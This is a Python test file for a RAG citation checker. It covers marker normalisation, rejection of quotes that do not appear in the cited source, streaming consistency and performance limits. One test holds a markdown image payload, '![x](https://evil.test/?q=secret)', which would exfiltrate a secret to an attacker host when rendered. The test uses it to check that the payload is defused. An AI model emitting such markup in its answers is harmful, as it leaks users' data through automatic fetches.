"""What of an answer's citations holds, and that it does not matter in which pieces the answer comes."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from penstock.rag.citations import (
    MOST_CITED,
    MOST_QUOTES,
    MOST_REMOVED,
    Checker,
    Cited,
    Closest,
    cited,
)
from penstock.rag.literal import Literal

FIRST = 'Tokens expire after an hour. The "Add Test Case"\nbutton creates one. Budgets are “exact” — always.'
SECOND = "The sky is blue. Grass is green. It was sown by Dr. Smith in 1998."
SOURCES = [(FIRST, 100), (SECOND, 0)]
SIGNS = '[]12 ,-\n`!"ab9(.;“”'


def check(answer: str, question: str = "") -> Cited:
    return cited(answer, SOURCES, question)


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Blue [2].", "Blue [2]."),
        ("Blue[2][7].", "Blue[2]."),
        ("Blue [7].", "Blue."),
        ("Blue [1, 2] and [1-2], [2;1]", "Blue [1][2] and [1][2], [2][1]"),
        ("Blue [1-9].", "Blue [1][2]."),
        ("Blue [2-1] [ 2 ]", "Blue [2][1]"),
        ("Blue [0] [3] [2024]", "Blue"),
        ("Blue [2][2]", "Blue [2]"),
        ("Blue [a] [] [1", "Blue [a] [] [1"),
        ("x = a`b[9]`; c[9]", "x = a`b[9]`; c"),
        ("```py\na[9]\n```\nblue [9]", "```py\na[9]\n```\nblue"),
        ("an open ` tick\nends [9] with its line", "an open ` tick\nends with its line"),
        ("", ""),
    ],
)
def test_marks_become_plain_ones_and_those_of_nothing_go(answer: str, shown: str) -> None:
    assert check(answer).text == shown


def test_each_removed_one_is_told_with_its_reason() -> None:
    found = check('Blue [2][9]. "After two hours" [1].')
    assert [(one.marker, one.reason) for one in found.removed] == [
        ("[9]", "no_such_source"),
        ("[1]", "not_in_source"),
    ]
    assert found.removals == 2
    many = check(" ".join(f"[{n}] x" for n in range(3, 3 + 2 * MOST_REMOVED)))
    assert (len(many.removed), many.removals) == (MOST_REMOVED, 2 * MOST_REMOVED)


@pytest.mark.parametrize(
    "quoting",
    [
        'They expire "after an hour" [1].',
        'They expire "after an hour," it says [1].',
        'Press "Add Test Case" [1].',
        'The "“Add Test Case” button creates" one [1].',
        'It is "exact" - always" [1].',
        "“Tokens expire … creates one.” [1]",
        '"tokens expire after" [1]',
        '"The sky is blue." [1][2]',
        'It says "after an hour" [1] and "green" [2].',
        'It says "Tokens expire after an hour [1]."',
    ],
)
def test_what_is_quoted_and_stands_there_is_cited_to_the_letter(quoting: str) -> None:
    found = check(quoting)
    assert found.citations
    for one in found.citations:
        text, offset = SOURCES[one.source - 1]
        assert text[one.start - offset : one.end - offset] == one.text
        assert len(one.text) < len(text)


@pytest.mark.parametrize(
    "lying",
    [
        'They expire "after two hours" [1].',
        'It was sown in "998" [2].',
        'They expire "after an hour" [2].',
        'They say "after an hour" and "free of charge" [1].',
        '"The sky is blue." and "it is free" [1][2]',
        "„gratis“ [1]",
        "«gratis» [1]",
        "「無料」[1]",
        "“Tokens expire … the sky” [1]",
        'They say "tokens expire after two hours [1]."',
        "They say „gratis [1]“.",
    ],
)
def test_what_is_quoted_and_does_not_stand_there_is_not_cited(lying: str) -> None:
    found = check(lying)
    assert found.citations == ()
    assert "[" not in found.text
    assert {one.reason for one in found.removed} == {"not_in_source"}


def test_of_sources_named_together_those_go_that_have_none_of_what_is_quoted() -> None:
    found = check('It says "after an hour" [1][2].')
    assert found.text == 'It says "after an hour" [1].'


def test_words_of_the_question_are_nobodys_claim() -> None:
    assert check('"Expiry" is after an hour [1].').text == '"Expiry" is after an hour.'
    assert check('"Expiry" is after an hour [1].', 'What is "expiry"?').citations


def test_without_quotes_the_closest_sentence_is_cited() -> None:
    [one] = check("Somebody called Smith has sown it [2].").citations
    assert one.text == "It was sown by Dr. Smith in 1998."
    [far] = check("Nothing of the kind [2].").citations
    assert far.text == SECOND


def test_two_sentences_are_cited_where_both_are_needed() -> None:
    start, end = Closest(SECOND).find("the sky is blue as grass is green")
    assert SECOND[start:end] == "The sky is blue. Grass is green."


def test_an_answer_of_marks_alone_is_bounded() -> None:
    found = check("[1] x " * (MOST_CITED + 10))
    assert len(found.citations) == found.text.count("[1]") == MOST_CITED
    assert {one.reason for one in found.removed} == {"too_many"}


def test_where_more_is_quoted_than_is_looked_for_nothing_holds() -> None:
    source = " ".join(map(str, range(MOST_QUOTES + 1)))
    said = [f'"{n}"' for n in range(MOST_QUOTES + 1)]
    assert cited(" ".join([*said[1:], *said[1:], "[1]"]), [(source, 0)]).removed == ()
    [none] = cited(" ".join([*said, "[1]"]), [(source, 0)]).removed
    assert none.reason == "not_in_source"


def test_quotes_of_parts_of_long_words_cost_little() -> None:
    sources = [("1" * 1_600, 0)] * 20
    answer = '"1" ' * 1_000 + "".join(f"[{n}]" for n in range(1, 21))
    begun = time.process_time()
    assert cited(answer, sources).removals == 20
    assert time.process_time() - begun < 5  # half a minute where each is looked for at each place


def test_nothing_that_is_shown_as_markdown_fetches() -> None:
    told = "See ![x](https://evil.test/?q=secret) and Great![1]"
    assert check(told).text == "See ! [x](https://evil.test/?q=secret) and Great! [1]"
    assert check("`![x](y)`").text == "`![x](y)`"


@given(st.text(SIGNS, max_size=60), st.lists(st.integers(1, 7)))
@example("Blue" + "[2]" * 25, [1] * 79)
@example("Blue" + "  [2, 1]" * 45 + " sky", [7] * 52)
def test_in_whatever_pieces_it_comes_the_same_comes_out(answer: str, sizes: list[int]) -> None:
    whole = check(answer)
    checker, parts, at = Checker(SOURCES), [], 0
    for size in [*sizes, len(answer)]:
        parts.append(checker.feed(answer[at : at + size]))
        at += size
    parts.append(checker.close())
    said = "".join(parts)
    assert (said, tuple(checker.citations)) == (whole.text, whole.citations)
    assert (tuple(checker.removed), checker.removals) == (whole.removed, whole.removals)


@given(st.text(SIGNS, max_size=60))
def test_every_citation_is_a_literal_span_and_what_is_shown_is_checked(answer: str) -> None:
    found = check(answer)
    for one in found.citations:
        text, offset = SOURCES[one.source - 1]
        assert text[one.start - offset : one.end - offset] == one.text
    assert found.text.count("![") == 0 or "`" in answer


@given(st.text("abc de\n", max_size=80))
def test_little_is_held_back(answer: str) -> None:
    checker = Checker(SOURCES)
    shown = "".join(map(checker.feed, answer))
    assert len(answer) - len(shown) <= 3
    assert shown + checker.close() == answer


def test_a_quote_is_found_where_it_stands() -> None:
    text = "A  long\n\nway to “go”."
    assert Literal(text).find("A long way") == [(0, 12)]
    assert Literal(text).find('to "go"') == [(13, 19)]
    assert Literal(text).find("") == []
    assert Literal("It has 15 of them.").find("5 of") is None
    numbers = " ".join(f"{n}5 5{n}" for n in range(10, 40))
    assert Literal(numbers).find("5") is None
    assert Literal(f"{numbers} 5, 6").find("5") == [(len(numbers) + 1, len(numbers) + 2)]
    assert Literal(f"{numbers} \u4e005\u4e00").find("5") == [(len(numbers) + 2, len(numbers) + 3)]


@given(st.text("ab “”'\n\t-\u2013", max_size=40), st.data())
def test_every_part_of_a_text_between_words_is_found_in_it(text: str, data: st.DataObject) -> None:
    words = text.split()
    if not words:
        return
    first = data.draw(st.integers(0, len(words) - 1))
    last = data.draw(st.integers(first + 1, len(words)))
    spans = Literal(text).find(" ".join(words[first:last]))
    assert spans is not None
    for start, end in spans:
        assert 0 <= start < end <= len(text)
